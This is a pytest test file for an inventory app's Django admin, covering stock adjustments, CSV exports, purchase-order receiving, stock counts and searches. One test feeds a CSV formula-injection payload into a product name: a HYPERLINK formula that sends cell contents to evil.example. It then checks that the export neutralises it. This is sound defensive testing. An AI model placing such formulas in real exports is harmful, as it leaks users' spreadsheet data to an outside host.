import csv
import io
from decimal import Decimal

import pytest
from django.apps import apps
from django.contrib import admin
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME

from inventory import services
from inventory.models import Product, PurchaseOrder, StockCount, StockLevel, StockMove, Supplier
from inventory.services import PurchaseLineInput
from inventory.tests.factories import ProductFactory

pytestmark = pytest.mark.django_db

INLINE_ONLY = {"RecipeLine", "PurchaseOrderLine", "StockCountLine"}


@pytest.fixture
def browser(client, manager):
    client.force_login(manager)
    return client


def action(browser, model: str, name: str, ids, **extra):
    return browser.post(
        f"/admin/inventory/{model}/", {"action": name, ACTION_CHECKBOX_NAME: [str(pk) for pk in ids], **extra}
    )


def test_every_inventory_model_has_an_admin_screen_or_inline():
    registered = {model.__name__ for model in admin.site._registry if model._meta.app_label == "inventory"}
    every = {model.__name__ for model in apps.get_app_config("inventory").get_models()}
    assert every - INLINE_ONLY <= registered


def test_stock_moves_are_read_only_in_the_admin(browser, stocked):
    move = StockMove.objects.first()

    assert browser.get("/admin/inventory/stockmove/").status_code == 200
    assert browser.get("/admin/inventory/stockmove/add/").status_code == 403
    browser.post(f"/admin/inventory/stockmove/{move.pk}/change/", {"delta": "99"})
    assert browser.post(f"/admin/inventory/stockmove/{move.pk}/delete/", {"post": "yes"}).status_code == 403
    move.refresh_from_db()
    assert move.delta == 10


def test_a_manager_adjusts_stock_with_a_reason_from_the_stock_list(browser, stocked, location):
    level = StockLevel.objects.get(product=stocked, location=location)

    form = action(browser, "stocklevel", "adjust", [level.pk])
    assert b"Adjust stock" in form.content
    action(browser, "stocklevel", "adjust", [level.pk], apply="1", reason="Crate found", **{f"delta-{level.pk}": "3"})

    level.refresh_from_db()
    assert level.on_hand == 13
    assert StockMove.objects.get(reason=StockMove.Reason.ADJUSTMENT).note == "Crate found"


def test_an_admin_adjustment_with_a_bad_quantity_changes_nothing_and_says_why(browser, stocked, location):
    level = StockLevel.objects.get(product=stocked, location=location)

    response = action(
        browser, "stocklevel", "adjust", [level.pk], apply="1", reason="Oops", **{f"delta-{level.pk}": "-50"}
    )

    assert b"Nothing was changed" in response.content
    level.refresh_from_db()
    assert level.on_hand == 10


def test_stock_on_hand_and_valuation_export_as_csv(browser, stocked, location):
    level = StockLevel.objects.get(product=stocked, location=location)

    on_hand = action(browser, "stocklevel", "export_on_hand", [level.pk])
    valuation = action(browser, "stocklevel", "export_valuation", [level.pk])

    assert on_hand["Content-Type"].startswith("text/csv")
    assert on_hand.content.decode().splitlines()[1] == f"main,{stocked.sku},{stocked.barcode},Lemonade,10.000,pc"
    assert valuation.content.decode().splitlines()[1] == f"main,{stocked.sku},Lemonade,10.000,4.0000,40.00"


def test_stock_exports_neutralise_formulas_and_keep_negative_quantities_as_numbers(browser, location):
    hostile = ProductFactory(
        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        sku="@SUM(1+1)",
        cost=Decimal("1.50"),
        stock_policy=Product.StockPolicy.ALLOW,
    )
    services.adjust_stock(product=hostile, location=location, delta="-2", reason="Miscount", user=None)
    level = StockLevel.objects.get(product=hostile, location=location)

    on_hand = action(browser, "stocklevel", "export_on_hand", [level.pk])
    valuation = action(browser, "stocklevel", "export_valuation", [level.pk])

    on_hand_row = next(csv.reader(io.StringIO(on_hand.content.decode().splitlines()[1])))
    valuation_row = next(csv.reader(io.StringIO(valuation.content.decode().splitlines()[1])))
    assert on_hand_row[1] == "'@SUM(1+1)"
    assert on_hand_row[3] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert on_hand_row[4] == "-2.000"
    assert valuation_row[1:6] == ["'@SUM(1+1)", on_hand_row[3], "-2.000", "1.5000", "-3.00"]


def test_receiving_a_purchase_order_from_the_admin_books_the_stock(browser, stocked, location):
    order = services.create_purchase_order(
        supplier=Supplier.objects.create(name="Fizz"),
        location=location,
        lines=[PurchaseLineInput(stocked, "5", "4.00")],
    )

    action(browser, "purchaseorder", "receive_outstanding", [order.pk])
    second = action(browser, "purchaseorder", "receive_outstanding", [order.pk])

    order.refresh_from_db()
    assert order.status == PurchaseOrder.Status.RECEIVED
    assert StockLevel.objects.get(product=stocked, location=location).on_hand == 15
    assert second.status_code == 302
    assert StockMove.objects.filter(reason=StockMove.Reason.PURCHASE, reference__startswith="po:").count() == 1


def test_a_count_started_counted_and_posted_in_the_admin_is_posted_once(browser, stocked, location):
    action(browser, "location", "start_count", [location.pk])
    count = StockCount.objects.get()
    line = count.lines.get()
    response = browser.post(
        f"/admin/inventory/stockcount/{count.pk}/change/",
        {
            "note": "",
            "lines-TOTAL_FORMS": "1",
            "lines-INITIAL_FORMS": "1",
            "lines-MIN_NUM_FORMS": "0",
            "lines-MAX_NUM_FORMS": "1000",
            "lines-0-id": str(line.pk),
            "lines-0-stock_count": str(count.pk),
            "lines-0-counted": "6",
        },
    )
    assert response.status_code == 302
    line.refresh_from_db()
    assert line.counted == 6

    action(browser, "stockcount", "post", [count.pk])
    action(browser, "stockcount", "post", [count.pk])

    count.refresh_from_db()
    assert count.status == StockCount.Status.POSTED
    assert StockLevel.objects.get(product=stocked, location=location).on_hand == 6
    assert StockMove.objects.filter(reason=StockMove.Reason.COUNT).count() == 1


def test_products_are_found_in_the_admin_by_name_prefix_and_barcode(browser):
    ProductFactory(name="Oat milk", barcode="5000000000017")
    ProductFactory(name="Soap")

    assert b"Oat milk" in browser.get("/admin/inventory/product/", {"q": "oat"}).content
    assert b"Oat milk" in browser.get("/admin/inventory/product/", {"q": "5000000000017"}).content
    assert b"Oat milk" not in browser.get("/admin/inventory/product/", {"q": "soap"}).content


def test_the_low_stock_alerts_are_listed_for_managers(browser, location):
    product = ProductFactory(name="Milk", reorder_point=Decimal(5))
    services.adjust_stock(product=product, location=location, delta="1", reason="Opening stock")
    services.record_low_stock_alerts()

    assert b"Milk" in browser.get("/admin/inventory/lowstockalert/").content


def test_a_negative_counted_quantity_in_the_admin_is_refused_with_a_message(browser, stocked, location):
    action(browser, "location", "start_count", [location.pk])
    count = StockCount.objects.get()
    line = count.lines.get()

    response = browser.post(
        f"/admin/inventory/stockcount/{count.pk}/change/",
        {
            "note": "",
            "lines-TOTAL_FORMS": "1",
            "lines-INITIAL_FORMS": "1",
            "lines-MIN_NUM_FORMS": "0",
            "lines-MAX_NUM_FORMS": "1000",
            "lines-0-id": str(line.pk),
            "lines-0-stock_count": str(count.pk),
            "lines-0-counted": "-4",
        },
        follow=True,
    )

    assert b"Nothing was saved" in response.content
    line.refresh_from_db()
    assert line.counted is None
